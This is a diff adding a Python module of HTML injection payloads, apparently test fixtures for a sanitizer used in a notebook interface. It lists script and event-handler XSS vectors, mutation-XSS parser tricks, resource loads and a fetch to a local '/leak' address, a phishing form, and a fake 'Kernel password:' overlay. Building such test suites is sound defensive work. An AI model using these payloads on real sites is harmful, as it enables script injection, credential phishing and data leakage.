@@ -1,0 +1,98 @@
+"""HTML that runs scripts, loads addresses or leaves its place in a page that takes it as it is."""
+
+from __future__ import annotations
+
+import base64
+
+SCRIPT = "fetch('http://127.0.0.1:9/leak');window.hit=(window.hit||0)+1"
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+ATTACKS = [
+    f"<script>{SCRIPT}</script>",
+    f"<SCRIPT >{SCRIPT}</SCRIPT >",
+    f"<scr<script>ipt>{SCRIPT}</script>",
+    f'<img src=x onerror="{SCRIPT}">',
+    f"<img src=x onerror={SCRIPT.replace(' ', '')}>",
+    f'<img/src/onerror="{SCRIPT}">',
+    f"<img src='x'onerror=\"{SCRIPT}\">",
+    f'<IMG """><script>{SCRIPT}</script>"\\>',
+    f'<svg onload="{SCRIPT}"></svg>',
+    f"<svg><script>{SCRIPT}</script></svg>",
+    f'<svg><svg><a><style><img src=x onerror="{SCRIPT}"></style></a></svg></svg>',
+    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
+    f'<svg><foreignObject><img src=x onerror="{SCRIPT}"></foreignObject></svg>',
+    f'<details open ontoggle="{SCRIPT}">x</details>',
+    f'<iframe srcdoc="<script>parent.hit=1;{SCRIPT}</script>"></iframe>',
+    '<iframe src="javascript:parent.hit=1"></iframe>',
+    f'<iframe src="data:text/html;base64,{b64("<script>" + SCRIPT + "</script>")}"></iframe>',
+    f'<object data="data:text/html;base64,{b64("<script>" + SCRIPT + "</script>")}"></object>',
+    f'<embed src="data:image/svg+xml;base64,{b64("<svg xmlns=" + chr(34) + "http://www.w3.org/2000/svg" + chr(34) + "><script>" + SCRIPT + "</script></svg>")}">',
+    f'<input autofocus onfocus="{SCRIPT}">',
+    f'<video><source onerror="{SCRIPT}"></video>',
+    f'<audio src=x onerror="{SCRIPT}"></audio>',
+    f'<body onload="{SCRIPT}">',
+    f'<marquee onstart="{SCRIPT}">x</marquee>',
+    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{SCRIPT}">x</b>',
+    # mutation: what is text to one parser is an element to the next
+    f'<noscript><p title="</noscript><img src=x onerror=&quot;{SCRIPT}&quot;>"></noscript>',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
+    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{SCRIPT}">',
+    f'<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">',
+    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror="{SCRIPT}"></style></annotation-xml></math>',
+    f'<svg><desc><style><img src=x onerror="{SCRIPT}"></style></desc></svg>',
+    f'<template><script>{SCRIPT}</script></template><img src=x onerror="{SCRIPT}">',
+    f"<textarea><img title=\"</textarea><img src=x onerror='{SCRIPT}'>\"></textarea>",
+    f"<title><a title=\"</title><img src=x onerror='{SCRIPT}'>\">",
+    f"<xmp><p title=\"</xmp><img src=x onerror='{SCRIPT}'>\">",
+    f'<!--><img src=x onerror="{SCRIPT}">-->',
+    f'<!--!><img src=x onerror="{SCRIPT}">',
+    f'<![CDATA[><img src=x onerror="{SCRIPT}">]]>',
+    f'<?xml ><img src=x onerror="{SCRIPT}">?>',
+    f"<table><td title='<img src=x onerror=\"{SCRIPT}\">'>x</table>",
+    f"<p title='\"><img src=x onerror={SCRIPT}>'>x</p>",
+    f'<p title=`"><img src=x onerror={SCRIPT}>`>x</p>',
+    f'<span title="&quot;&gt;&lt;img src=x onerror={SCRIPT}&gt;">x</span>',
+    f'&lt;script&gt;{SCRIPT}&lt;/script&gt;<img src=x onerror="{SCRIPT}">',
+    f'\0<scr\0ipt>{SCRIPT}</scr\0ipt><img\0src=x onerror="{SCRIPT}">',
+    f'<img src=x onerror="{SCRIPT}"',
+    f"<b><p><script>{SCRIPT}</b></p>",
+    # addresses
+    "<img src=http://127.0.0.1:9/a>",
+    "<img src=//127.0.0.1:9/a>",
+    "<img src=/leak>",
+    "<img src='data:image/png;base64,AAAA' srcset='http://127.0.0.1:9/b 1x'>",
+    "<picture><source srcset=http://127.0.0.1:9/c><img src=x></picture>",
+    "<link rel=stylesheet href=http://127.0.0.1:9/d.css>",
+    "<style>@import 'http://127.0.0.1:9/e.css'; body{background:url(http://127.0.0.1:9/f)}</style>",
+    "<style>#T_a{background:url(http://127.0.0.1:9/g)}</style><table id=T_a><tr><td>x</td></tr></table>",
+    "<style>#T_a{color:red} } body{background:url(http://127.0.0.1:9/h)}</style><table id=T_a></table>",
+    "<style>#T_a{color:red;/*}*/background-image:url(http://127.0.0.1:9/i)}</style><p id=T_a>x</p>",
+    "<div style='background:url(http://127.0.0.1:9/j)'>x</div>",
+    "<div style='background:u\\72l(http://127.0.0.1:9/k)'>x</div>",
+    "<div style='background:url(/*x*/http://127.0.0.1:9/l)'>x</div>",
+    "<div style='background:image-set(\"http://127.0.0.1:9/m\" 1x)'>x</div>",
+    "<div style='list-style:url(http://127.0.0.1:9/n);cursor:url(http://127.0.0.1:9/o),auto'>x</div>",
+    '<div style="border-image:url(http://127.0.0.1:9/p)">x</div>',
+    "<table background=http://127.0.0.1:9/q><td background=/leak>x</table>",
+    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/r'>",
+    "<base href=http://127.0.0.1:9/><img src=s>",
+    "<video poster=http://127.0.0.1:9/t></video>",
+    "<input type=image src=http://127.0.0.1:9/u>",
+    "<svg><image href=http://127.0.0.1:9/v /><use href=http://127.0.0.1:9/w#a /></svg>",
+    "<a href=javascript:hit=1>x</a>",
+    "<a href='&#106;avascript:hit=1'>x</a>",
+    "<a href='http://127.0.0.1:9/x' ping=http://127.0.0.1:9/y>x</a>",
+    "<form action=http://127.0.0.1:9/z><button>Log in</button></form>",
+    f'<img src="data:image/svg+xml;base64,{b64("<svg xmlns=" + chr(34) + "http://www.w3.org/2000/svg" + chr(34) + "><script>" + SCRIPT + "</script><image href=" + chr(34) + "http://127.0.0.1:9/1" + chr(34) + "/></svg>")}">',
+    # the page itself
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Kernel password:</div>",
+    "<div style='margin-top:-9999px;transform:translate(0,-99px)'>x</div>",
+    "<p id=main name=body class='jp-Dialog lm-Widget' data-commandlinker-command=notebook:run-all data-jp-x=1>x</p>",
+    "<style>.jp-Notebook{display:none}</style><p>x</p>",
+    "<style>#T_a, body{display:none;color:red}</style><p>x</p>",
+    "</div></div><p>host: sandbox disabled</p>",
+]
